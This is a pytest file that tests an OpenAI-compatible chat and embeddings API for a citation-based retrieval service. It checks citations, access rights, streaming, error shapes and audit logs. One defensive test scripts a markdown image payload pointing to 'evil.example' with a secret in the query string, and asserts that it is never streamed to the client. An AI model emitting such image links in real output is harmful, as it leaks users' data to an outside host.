"""The real OpenAI client against the real service."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any, NoReturn

import numpy as np
import openai
import pytest
from openai.types.chat import ChatCompletionMessageParam

from citewell.serving import audited
from citewell.serving.answering import Question, Tell, made
from citewell.serving.compatible import examples, schemas
from citewell.serving.compatible.model import models_shape
from citewell.serving.service import Service
from citewell.types import Answer
from tests.serving.conftest import QUESTION, RULE
from tests.serving.served import Served

ASKED: list[ChatCompletionMessageParam] = [{"role": "user", "content": QUESTION}]


def client(served: Served, name: str, *groups: str) -> openai.OpenAI:
    key = served.client(name, "read", *groups).headers["Authorization"].removeprefix("Bearer ")
    return openai.OpenAI(base_url=f"{served.url}/v1", api_key=key, max_retries=0)


@pytest.fixture
def ann(read_only: Served) -> Iterator[openai.OpenAI]:
    with client(read_only, "ann") as made:
        yield made


@pytest.fixture
def member(read_only: Served) -> Iterator[openai.OpenAI]:
    with client(read_only, "member", "board", "fraud_team") as made:
        yield made


def test_an_answer_has_its_citations_as_annotations(ann: openai.OpenAI) -> None:
    whole = ann.chat.completions.create(
        model="citewell", messages=[{"role": "system", "content": "Answer in rhymes."}, *ASKED], temperature=0.3
    )
    (choice,) = whole.choices
    assert choice.finish_reason == "stop"
    assert choice.message.content == f"{RULE} [1]"
    (annotation,) = choice.message.annotations or []
    marked = annotation.url_citation
    assert choice.message.content[marked.start_index : marked.end_index] == "[1]"
    assert (marked.title, marked.url.rpartition("/")[2]) == ("Disputes", "disputes.md")
    assert annotation.model_dump()["citewell"]["quote"] == RULE
    assert not choice.message.model_dump()["citewell"]["abstained"]
    schemas.ChatCompletion.model_validate(whole.model_dump(exclude_unset=True))


def test_no_answer_is_ordinary_content(ann: openai.OpenAI) -> None:
    asked: list[ChatCompletionMessageParam] = [{"role": "user", "content": "What is the code word for the vault?"}]
    (choice,) = ann.chat.completions.create(model="citewell", messages=asked).choices
    told = choice.message.model_dump()
    assert choice.finish_reason == "stop"
    assert choice.message.content
    assert "Meadow" not in str(told)
    assert (told["citewell"]["abstained"], told["annotations"]) == (True, [])
    assert told["citewell"]["reason"]


def test_rights_are_the_callers_and_can_be_narrowed(member: openai.OpenAI) -> None:
    asked: list[ChatCompletionMessageParam] = [{"role": "user", "content": "What is the code word for the vault?"}]

    def content(**narrowed: Any) -> str | None:
        body = {"citewell": narrowed} if narrowed else None
        whole = member.chat.completions.create(model="citewell", messages=asked, extra_body=body)
        return whole.choices[0].message.content

    assert "Meadow" in str(content())
    assert "Meadow" in str(content(groups=["board"]))
    assert "Meadow" not in str(content(groups=["fraud_team"]))
    assert "Meadow" not in str(content(where='title = "Disputes"'))
    with pytest.raises(openai.PermissionDeniedError):
        content(groups=["directors"])


def test_messages_before_the_question_are_its_turns(ann: openai.OpenAI) -> None:
    answer = ann.chat.completions.create(model="citewell", messages=ASKED).choices[0].message.content
    follow_up: list[ChatCompletionMessageParam] = [
        *ASKED,
        {"role": "assistant", "content": answer},
        {"role": "user", "content": [{"type": "text", "text": "And from which date?"}]},
    ]
    told = ann.chat.completions.create(model="citewell", messages=follow_up).choices[0].message.model_dump()
    alone = ann.chat.completions.create(model="citewell", messages=follow_up[-1:]).choices[0].message.model_dump()
    assert len(told["citewell"]["searched"]) > len(alone["citewell"]["searched"])


def test_a_stream_is_the_same_answer(ann: openai.OpenAI) -> None:
    whole = ann.chat.completions.create(model="citewell", messages=ASKED).choices[0].message
    chunks = list(
        ann.chat.completions.create(
            model="citewell", messages=ASKED, stream=True, stream_options={"include_usage": True}
        )
    )
    deltas = [chunk.choices[0].delta for chunk in chunks if chunk.choices]
    assert deltas[0].role == "assistant"
    assert "".join(delta.content or "" for delta in deltas) == whole.content
    assert chunks[-1].usage is not None
    assert chunks[-2].choices[0].finish_reason == "stop"
    assert len({chunk.id for chunk in chunks}) == 1
    with ann.chat.completions.stream(model="citewell", messages=ASKED) as stream:
        message = stream.get_final_completion().choices[0].message
    assert message.content == whole.content
    assert message.model_dump()["annotations"] == whole.model_dump()["annotations"]
    assert message.model_dump()["citewell"] == whole.model_dump()["citewell"]


def test_no_draft_is_sent_to_a_client_that_may_draw_it(ann: openai.OpenAI, monkeypatch: pytest.MonkeyPatch) -> None:
    def scripted_drafts(service: Service, question: Question, tell: Tell) -> Answer:
        for piece in ("Perhaps ![x](https://evil.example/?q=secret) ", "100 days."):
            tell("draft", {"text": piece})
        return made(service, question, tell)

    monkeypatch.setattr(audited, "made", scripted_drafts)
    deltas = [
        chunk.choices[0].delta.model_dump(exclude_unset=True)
        for chunk in ann.chat.completions.create(model="citewell", messages=ASKED, stream=True)
    ]
    assert "".join(delta.get("content") or "" for delta in deltas) == f"{RULE} [1]"
    assert "evil" not in str(deltas)
    assert "100 days" not in str(deltas)


def test_an_error_in_a_stream_is_the_clients_error(
    ann: openai.OpenAI, read_only: Served, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*_: object, **__: object) -> NoReturn:
        raise RuntimeError("Meadow")

    monkeypatch.setattr(read_only.service.index, "ask", broken)
    with pytest.raises(openai.APIError) as told:
        list(ann.chat.completions.create(model="citewell", messages=ASKED, stream=True))
    assert "Meadow" not in str(told.value)
    assert told.value.code == "Unexpected"
    with pytest.raises(openai.InternalServerError):
        ann.chat.completions.create(model="citewell", messages=ASKED)


def test_errors_are_in_the_shape_of_the_client(read_only: Served, ann: openai.OpenAI) -> None:
    with openai.OpenAI(base_url=f"{read_only.url}/v1", api_key="cw_wrong", max_retries=0) as nobody:
        with pytest.raises(openai.AuthenticationError) as refused:
            nobody.models.list()
        assert (refused.value.code, refused.value.type) == ("Unauthenticated", "authentication_error")
    with pytest.raises(openai.NotFoundError) as missing:
        ann.chat.completions.create(model="gpt-4o", messages=ASKED)
    assert "citewell" in missing.value.message
    picture: Any = {"role": "user", "content": [{"type": "image_url", "image_url": {"url": "data:,"}}]}
    messages: Any
    for messages in ([picture], [{"role": "assistant", "content": "Well?"}], [{"role": "user", "content": "  "}]):
        with pytest.raises(openai.BadRequestError) as wrong:
            ann.chat.completions.create(model="citewell", messages=messages)
        assert wrong.value.type == "invalid_request_error"
    with pytest.raises(openai.UnprocessableEntityError) as odd:
        ann.chat.completions.create(model="citewell", messages=[], n=2)
    assert odd.value.code == "RequestError"
    with pytest.raises(openai.UnprocessableEntityError):
        ann.chat.completions.create(model="citewell", messages=ASKED, extra_body={"citewell": {"principal": "board"}})
    plain = read_only.client("ann").get("/v1/embeddings").json()
    assert set(plain["error"]) == {"message", "type", "param", "code"}


def test_there_is_one_model(ann: openai.OpenAI) -> None:
    assert [model.id for model in ann.models.list()] == ["citewell"]


def test_embeddings_are_those_of_the_index(ann: openai.OpenAI, read_only: Served) -> None:
    texts = [RULE, "The branch opens at nine."]
    own = read_only.service.index.embedder.embed_passages(texts)
    whole = ann.embeddings.create(model="citewell", input=texts)  # asks for base64
    np.testing.assert_array_equal(np.array([each.embedding for each in whole.data], np.float32), own)
    assert whole.usage.prompt_tokens > 10
    (query,) = ann.embeddings.create(model="citewell", input=RULE, encoding_format="float", dimensions=384).data
    np.testing.assert_allclose(query.embedding, own[0], atol=1e-5)
    with pytest.raises(openai.BadRequestError):
        ann.embeddings.create(model="citewell", input="x", dimensions=100)
    with pytest.raises(openai.UnprocessableEntityError):
        ann.embeddings.create(model="citewell", input=[[1, 2, 3]])


def test_what_is_asked_is_in_the_audit_log_and_what_is_embedded_is_not(read_only: Served) -> None:
    with client(read_only, "auditee") as auditee:
        auditee.chat.completions.create(model="citewell", messages=ASKED)
        auditee.embeddings.create(model="citewell", input="a text of mine")
    log = (read_only.service.state.folder / "audit.jsonl").read_text()
    mine = [line for line in map(json.loads, log.splitlines()) if line.get("caller") == read_only.caller("auditee")]
    assert [line["action"] for line in mine] == ["ask", "embed"]
    assert mine[0]["asked"] == QUESTION
    assert "a text of mine" not in log


def test_the_examples_are_what_the_schema_says() -> None:
    schemas.ChatCompletion.model_validate(examples.COMPLETION)
    schemas.EmbeddingList.model_validate(examples.EMBEDDINGS)
    schemas.Ranking.model_validate(examples.RANKING)
    schemas.ModelList.model_validate(models_shape())


def test_one_model_is_there_and_no_other(ann: openai.OpenAI) -> None:
    assert ann.models.retrieve("citewell").id == "citewell"
    with pytest.raises(openai.NotFoundError) as refused:
        ann.models.retrieve("gpt-4o")
    assert isinstance(refused.value.body, dict)
    assert refused.value.body["code"] == "UnknownId"
